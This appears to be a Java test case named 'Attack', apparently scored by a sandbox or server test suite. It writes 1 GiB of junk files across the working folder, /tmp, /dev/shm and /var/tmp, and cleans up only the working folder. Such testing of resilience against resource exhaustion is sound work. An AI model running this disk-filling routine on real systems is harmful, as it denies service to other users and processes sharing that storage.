// It writes 1 GiB wherever it may.
// verdict: 100 points
package webserver;

import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;

final class Attack {
    static void run(String[] arguments) throws Exception {
        byte[] block = new byte[1024 * 1024];
        for (String folder : new String[] {".", "/tmp", "/dev/shm", "/var/tmp"}) {
            for (int i = 0; i < 16; i++) {
                try (OutputStream file = new FileOutputStream(folder + "/full-" + i)) {
                    for (int j = 0; j < 16; j++) {
                        file.write(block);
                    }
                } catch (IOException e) {
                    System.err.println(e);
                }
            }
        }
        for (int i = 0; i < 16; i++) {
            new File("full-" + i).delete(); // else the suite's own files would have no room in its folder
        }
    }
}
